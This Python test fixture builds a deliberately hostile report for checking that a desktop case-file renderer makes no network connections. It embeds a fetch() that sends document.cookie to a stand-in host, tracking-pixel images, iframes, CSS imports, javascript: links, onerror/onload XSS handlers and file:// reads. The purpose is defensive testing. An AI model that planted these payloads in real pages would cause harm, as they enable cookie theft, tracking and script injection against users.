"""A report written to make a reader leak: remote images, scripts, frames, style sheets, links.

Shared by tests/test_hostile_render.py and tests/test_network_guard.py. ``host`` lets a
test point every URL at a local canary listener, so even a connection made by native
code (Qt, not Python's socket module) is caught.
"""

from __future__ import annotations

from desktop.casefile.builder import CaseBuilder


def hostile_markdown(host: str = "evil.example") -> str:
    return f"""# Report on the attack

On March 27, a bomber struck in Kabul, the spokesman Zabihullah Mujahid said.

<script>fetch("http://{host}/script?c=" + document.cookie)</script>

<img src="http://{host}/raw-img.png">

![tracking pixel](http://{host}/md-img.png)

![https pixel](https://{host}/md-img-tls.png)

<iframe src="http://{host}/frame"></iframe>

<link rel="stylesheet" href="http://{host}/style.css">

<style>@import url(http://{host}/import.css); body {{ background: url(http://{host}/bg.png) }}</style>

<object data="http://{host}/object.swf"></object> <embed src="http://{host}/embed">

<video src="http://{host}/v.mp4" poster="http://{host}/poster.png"></video>

[click me](javascript:alert(1)) and [a page](http://{host}/page) and <a href="http://{host}/a">raw link</a>

<img src="x" onerror="alert(1)"> <svg onload="alert(1)"><image href="http://{host}/svg.png"/></svg>

![local file](file:///etc/hostname) ![network share](file://{host}/share/x.png)

<table background="http://{host}/table-bg.png"><tr><td>cell</td></tr></table>

The Taliban said six people were killed in Kabul.
"""


def hostile_case(host: str = "evil.example"):
    """A valid case whose report and metadata carry the hostile markup."""
    b = CaseBuilder(
        "hostile-report",
        "<script>alert('title')</script> Hostile report",
        created="2026-01-01T00:00:00Z",
        report_date="2023-04-01",
        summary=f"<img src=http://{host}/summary.png>",
    )
    b.document(hostile_markdown(host), title="<iframe src=http://x>", source_url=f"http://{host}/source")
    b.entity("Kabul", "LOC", subtype="city")
    b.entity("Zabihullah Mujahid", "PERSON")
    b.entity("Taliban", "ORG", subtype="armed_group")
    src = b.source("Zabihullah Mujahid", role="spokesman <b>bold</b>")
    b.claim("six people were killed", src, "said", f"<img src=http://{host}/claim.png> six killed")
    b.assess(
        src,
        "C",
        f"<a href='javascript:alert(1)'>x</a> ![p](http://{host}/rationale.png)",
        analyst="<script>",
        time="2026-01-01T00:00:00Z",
    )
    b.note(src, f"![n](http://{host}/note.png)", author="a", time="2026-01-01T00:00:00Z")
    return b.case
